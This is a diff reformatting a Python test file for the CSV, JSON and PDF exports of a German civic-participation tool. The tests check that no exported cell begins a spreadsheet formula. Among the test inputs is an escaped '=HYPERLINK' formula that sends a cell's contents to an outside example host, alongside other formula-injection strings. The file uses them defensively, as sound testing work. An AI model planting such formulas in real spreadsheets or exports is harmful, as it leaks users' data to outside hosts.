@@ -23,7 +23,7 @@ EVIL = (
     "@SUM(A1:A9)",
     "\tTabulator vorne",
     "'schon mit Apostroph",
-    "Semikolon; Komma, \"Anführung\" und\nZeilenumbruch",
+    'Semikolon; Komma, "Anführung" und\nZeilenumbruch',
     "Łukasz Öztürk-Nguyễn sagt: Straße ß ẞ € – „gut“",
 )
 
@@ -44,14 +44,22 @@ def _texts(db: Database) -> list[str]:
 
 def test_csv_round_trips_every_cell(filled: Database, tmp_path: Path) -> None:
     paths = export.export(filled, tmp_path, "csv").paths
-    assert {p.name for p in paths} == {"beitraege.csv", "handlungsfelder.csv", "eckdaten.csv", "abstimmung.csv"}
+    assert {p.name for p in paths} == {
+        "beitraege.csv",
+        "handlungsfelder.csv",
+        "eckdaten.csv",
+        "abstimmung.csv",
+    }
     with filled.read() as s:
         tables = {t.name: t for t in export.tables(minutes.snapshot(s))}
     for path in paths:
         table = tables[path.stem]
         rows = export.read_csv(path)
         assert rows[0] == [c.header for c in table.columns]
-        assert rows[1:] == [[export.cell_text(v) if not isinstance(v, str) else v for v in row] for row in table.rows]
+        assert rows[1:] == [
+            [export.cell_text(v) if not isinstance(v, str) else v for v in row]
+            for row in table.rows
+        ]
     ideas_rows = export.read_csv(tmp_path / "beitraege.csv")
     assert [r[1] for r in ideas_rows[1:]] == _texts(filled)
 
@@ -60,12 +68,17 @@ def test_csv_round_trips_every_cell(filled: Database, tmp_path: Path) -> None:
 def test_any_text_survives_the_csv_round_trip(tmp_path: Path, delimiter: str) -> None:
     # Straight through the writer: the ideas service would already tidy tabs and line breaks.
     table = export.DataTable(
-        "probe", "probe", (export.Column("n", "Nr"), export.Column("text", "=Text")),
+        "probe",
+        "probe",
+        (export.Column("n", "Nr"), export.Column("text", "=Text")),
         tuple((n, text) for n, text in enumerate(EVIL)),
-    )  # fmt: skip
+    )
     path = tmp_path / "probe.csv"
     path.write_text(export.csv_text(table, delimiter=delimiter), encoding="utf-8-sig", newline="")
-    assert export.read_csv(path, delimiter=delimiter) == [["Nr", "=Text"], *([str(n), text] for n, text in enumerate(EVIL))]
+    assert export.read_csv(path, delimiter=delimiter) == [
+        ["Nr", "=Text"],
+        *([str(n), text] for n, text in enumerate(EVIL)),
+    ]
 
 
 def test_csv_is_what_german_excel_expects(filled: Database, tmp_path: Path) -> None:
@@ -77,8 +90,14 @@ def test_csv_is_what_german_excel_expects(filled: Database, tmp_path: Path) -> N
     assert "Łukasz Öztürk-Nguyễn".encode() in raw
     comma = tmp_path / "komma"
     export.export(filled, comma, "csv", delimiter=",")
-    assert (comma / "beitraege.csv").read_text(encoding="utf-8-sig").startswith("Nr,Beitrag,Handlungsfeld,")
-    assert [r[1] for r in export.read_csv(comma / "beitraege.csv", delimiter=",")[1:]] == _texts(filled)
+    assert (
+        (comma / "beitraege.csv")
+        .read_text(encoding="utf-8-sig")
+        .startswith("Nr,Beitrag,Handlungsfeld,")
+    )
+    assert [r[1] for r in export.read_csv(comma / "beitraege.csv", delimiter=",")[1:]] == _texts(
+        filled
+    )
 
 
 def test_no_cell_starts_a_formula(filled: Database, tmp_path: Path) -> None:
@@ -89,7 +108,7 @@ def test_no_cell_starts_a_formula(filled: Database, tmp_path: Path) -> None:
         cells = [cell for row in csv.reader(f, delimiter=";") for cell in row]
     dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert dangerous == []
-    assert "'=HYPERLINK(\"http://example.org/?x=\"&A1;\"Klick\")" in cells
+    assert '\'=HYPERLINK("http://example.org/?x="&A1;"Klick")' in cells
     assert "''schon mit Apostroph" in cells
     assert export.guard("Bürgerbüro") == "Bürgerbüro"
     assert export.unguard(export.guard("-5")) == "-5"
@@ -102,7 +121,9 @@ def test_json_holds_the_same_data(filled: Database, tmp_path: Path) -> None:
     assert data["event"]["council_reference"] == "V/0164/2018"
     assert [i["text"] for i in data["ideas"]] == _texts(filled)
     assert data["ideas"][0]["number"] == 1
-    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+0[12]:00", data["ideas"][0]["created"])
+    assert re.fullmatch(
+        r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+0[12]:00", data["ideas"][0]["created"]
+    )
     assert {f["name"] for f in data["fields"]} == {name for name, _ in setup.DEFAULT_FIELDS}
     assert data["votes"] == []
 
@@ -110,8 +131,16 @@ def test_json_holds_the_same_data(filled: Database, tmp_path: Path) -> None:
 def test_exports_hold_no_participant_data(filled: Database, tmp_path: Path) -> None:
     with filled.uow() as s:
         event = setup.current_event(s)
-        s.add(Participant(event_id=event.id, ticket_number=1, first_name="Zdzisława",
-                          last_name="Przybylska", email="zp@example.org", postcode="48159"))  # fmt: skip
+        s.add(
+            Participant(
+                event_id=event.id,
+                ticket_number=1,
+                first_name="Zdzisława",
+                last_name="Przybylska",
+                email="zp@example.org",
+                postcode="48159",
+            )
+        )
     out = tmp_path / "export"
     export.export(filled, out, "csv")
     export.export(filled, out, "json")
@@ -129,7 +158,9 @@ def test_export_into_a_place_that_cannot_be_written(filled: Database, tmp_path: 
         export.export(filled, blocker / "ordner", "csv")
 
 
-def test_cli_jobs_write_minutes_and_exports(filled: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_cli_jobs_write_minutes_and_exports(
+    filled: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     path = str(filled.path)
     pdf = tmp_path / "protokoll.pdf"
     assert main(["--lang", "en", "minutes", path, "--out", str(pdf)]) == 0
@@ -145,7 +176,10 @@ def test_cli_jobs_write_minutes_and_exports(filled: Database, tmp_path: Path, ca
     assert main(["export", path, "--out", str(tmp_path / "csv"), "--comma"]) == 0
     assert (tmp_path / "csv" / "beitraege.csv").read_text(encoding="utf-8-sig").startswith("Nr,")
     capsys.readouterr()
-    assert main(["--lang", "en", "minutes", path, "--out", str(tmp_path / "datei-fehlt" / "x.pdf")]) == 0
+    assert (
+        main(["--lang", "en", "minutes", path, "--out", str(tmp_path / "datei-fehlt" / "x.pdf")])
+        == 0
+    )
     blocker = tmp_path / "blocker"
     blocker.write_text("")
     assert main(["--lang", "en", "minutes", path, "--out", str(blocker / "x.pdf")]) == 1
@@ -176,4 +210,6 @@ def test_minutes_and_exports_on_a_shared_postgresql_event(pg_db: Database, tmp_p
     minutes.export_pdf(pg_db, second)
     assert first.read_bytes() == second.read_bytes()
     (path,) = export.export(pg_db, tmp_path / "json", "json").paths
-    assert [i["text"] for i in json.loads(path.read_text(encoding="utf-8"))["ideas"]] == _texts(pg_db)
+    assert [i["text"] for i in json.loads(path.read_text(encoding="utf-8"))["ideas"]] == _texts(
+        pg_db
+    )
